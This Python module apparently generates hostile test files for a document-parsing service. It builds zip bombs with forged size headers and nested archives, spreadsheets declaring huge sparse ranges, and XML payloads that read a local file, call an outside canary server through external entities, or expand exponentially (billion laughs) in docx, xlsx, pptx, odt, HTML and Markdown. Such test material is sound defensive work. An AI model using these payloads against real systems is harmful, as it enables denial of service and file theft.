"""Office files made to exhaust, to deceive or to leak: bombs, sparse sheets, entities."""

import io
import struct
import zipfile
import zlib

from hostile_seeds import FRENCH, archive, cell, open_document, slides, word_file, workbook

GIGABYTE = 1024**3
TYPES = {
    "docx": "wordprocessingml.document.main+xml",
    "pptx": "presentationml.presentation.main+xml",
    "xlsx": "spreadsheetml.sheet.main+xml",
}
PARTS = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}
OFFICE = '<Override ContentType="application/vnd.openxmlformats-officedocument.{}"/>'


def bombs(size: int = GIGABYTE) -> dict[str, bytes]:
    """Archives that unpack to `size` bytes or to thousands of parts."""
    made: dict[str, bytes] = {}
    zeros = _deflated(size)
    for kind, part in PARTS.items():
        head = archive({"[Content_Types].xml": OFFICE.format(TYPES[kind])})
        made[f"bomb.{kind}"] = _with_member(head, part, zeros, size)
        made[f"bomb-that-lies.{kind}"] = _with_member(head, part, zeros, 100)
        many = {f"{part}/{number}.xml": b"<a/>" for number in range(10_000)}
        types = {"[Content_Types].xml": OFFICE.format(TYPES[kind])}
        made[f"ten-thousand-parts.{kind}"] = archive(types | many, packed=False)
    for suffix, kind in (("odt", "text"), ("ods", "spreadsheet")):
        head = archive({"mimetype": f"application/vnd.oasis.opendocument.{kind}"})
        made[f"bomb.{suffix}"] = _with_member(head, "content.xml", zeros, size)
        made[f"bomb-that-lies.{suffix}"] = _with_member(head, "content.xml", zeros, 100)
    nest = b"x" * 1000
    for level in range(8):
        nest = archive({f"{level}-{number}.zip": nest for number in range(10)})
    made["nested.docx"] = nest
    made["nested-behind-a-true-head.docx"] = archive(
        {"[Content_Types].xml": OFFICE.format(TYPES["docx"]), "word/document.xml": nest}
    )
    return made


def _deflated(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b" " * 1024**2
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def _with_member(head: bytes, name: str, packed: bytes, said: int) -> bytes:
    """The archive with one more member, already packed, that is said to unpack to `said` bytes."""
    with zipfile.ZipFile(io.BytesIO(head)) as file:
        start = file.start_dir
        count = len(file.namelist())
    encoded = name.encode()
    fixed = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, 0, len(packed), said, len(encoded), 0)
    local = b"PK\x03\x04" + fixed + encoded + packed
    central = head[start : head.rindex(b"PK\x05\x06")]
    entry = struct.pack("<HHHLL", 0, 0, 0, 0, start)
    central += b"PK\x01\x02" + struct.pack("<H", 20) + fixed + entry + encoded
    end = struct.pack("<HHHHLLH", 0, 0, count + 1, count + 1, len(central), start + len(local), 0)
    return head[:start] + local + central + b"PK\x05\x06" + end


def sheets() -> dict[str, bytes]:
    """Sheets whose few cells lie far apart, or say that they are many."""
    first, last = cell("A1", "a"), cell("XFD1048576", "b")
    far = f'<row r="1">{first}</row><row r="1048576">{last}</row>'
    long = far.replace('<c r="X', f'<c x="{"y" * 400}" r="X')
    rows = "".join(f'<row r="{n}">{cell(f"A{n}", "a")}</row>' for n in range(1, 250_000))
    return {
        "far.xlsx": workbook(far),
        "far-single-quotes.xlsx": workbook(far.replace('"', "'")),
        "far-spaces.xlsx": workbook(far.replace('r="XF', 'r = "XF').replace("<c ", "<c\n")),
        "far-long-attribute.xlsx": workbook(long),
        "far-other-place.xlsx": workbook(far, place="elsewhere/a.data"),
        "far-reference.xlsx": workbook(far.replace('"XFD', '"&#88;FD')),
        "far-utf16.xlsx": _utf16(workbook(far)),
        "far-small-letters.xlsx": workbook(far.replace("XFD", "xfd")),
        "far-rows-only.xlsx": workbook(
            '<row r="1"><c t="inlineStr"><is><t>a</t></is></c></row><row r="1048576">'
            '<c t="inlineStr"><is><t>b</t></is></c></row>'
        ),
        "many-rows.xlsx": workbook(rows),
        "merged.xlsx": workbook(
            f'<row r="1">{first}</row></sheetData><mergeCells count="1">'
            '<mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'
        ),
        "repeated.ods": _repeated(1, 1_000_000),
        "repeated-both-ways.ods": _repeated(16_384, 1_048_576),
        "repeated-columns.ods": _repeated(16_384, 1),
        "repeated-beyond.ods": _repeated(2**40, 2**40),
    }


def _utf16(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        members = {name: file.read(name) for name in file.namelist()}
    name = "xl/worksheets/sheet1.xml"
    return archive({**members, name: members[name].decode().encode("utf-16")})


def _repeated(columns: int, rows: int) -> bytes:
    value = 'office:value-type="string"><text:p>Prix</text:p></table:table-cell>'
    return open_document(
        "spreadsheet",
        f'<table:table table:name="P"><table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{columns}" {value}'
        "</table:table-row></table:table>",
    )


def entities(secret: str, canary: str) -> dict[str, bytes]:
    """Entities that read a file, ask a server or multiply, in each format that holds XML."""
    grow = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "server": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/entity">]>',
        "outer": f'<!DOCTYPE x SYSTEM "{canary}/outer.dtd"><!-- e -->',
        "laughs": f'<!DOCTYPE x [<!ENTITY e0 "ha">{grow}<!ENTITY e "&e9;">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/p"> %p; <!ENTITY e "e">]>',
        "long": f'<!DOCTYPE x [<!ENTITY e "{"y" * 100_000}">]>',
    }
    made = {}
    for name, before in heads.items():
        said = f"{FRENCH} {'&e;' * (2000 if name == 'long' else 1)}"
        paragraph = f"<w:p><w:r><w:t>{said}</w:t></w:r></w:p>"
        made[f"{name}.docx"] = word_file(paragraph, before=before)
        made[f"{name}.xlsx"] = workbook(f'<row r="1">{cell("A1", said)}</row>', before=before)
        made[f"{name}.pptx"] = slides(said, before=before)
        made[f"{name}.odt"] = open_document("text", f"<text:p>{said}</text:p>", before=before)
        made[f"{name}.html"] = f"{before}<html><p>{said}</p></html>".encode()
        made[f"{name}.md"] = f"{before}\n\n{said}\n".encode()
    return made


def heavy(paragraphs: int) -> dict[str, bytes]:
    """Honest size, little text on disk: as much XML as the limits let pass."""
    words = "".join(
        f"<w:p><w:pPr><w:ind w:left='{n}'/></w:pPr><w:r><w:t>a{n}</w:t></w:r></w:p>"
        for n in range(paragraphs)
    )
    lines = "".join(f"<text:p>a{n}</text:p>" for n in range(paragraphs))
    depth = paragraphs // 10
    return {
        "paragraphs.docx": word_file(words),
        "paragraphs.odt": open_document("text", lines),
        "deep.docx": word_file("<w:p><w:r>" * depth + "<w:t>a</w:t>" + "</w:r></w:p>" * depth),
        "deep.odt": open_document("text", "<text:list><text:list-item>" * depth),
        "deep.pptx": slides("</a:t></a:r></a:p>" + "<a:p>" * depth),
        "tables.docx": word_file("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth),
    }
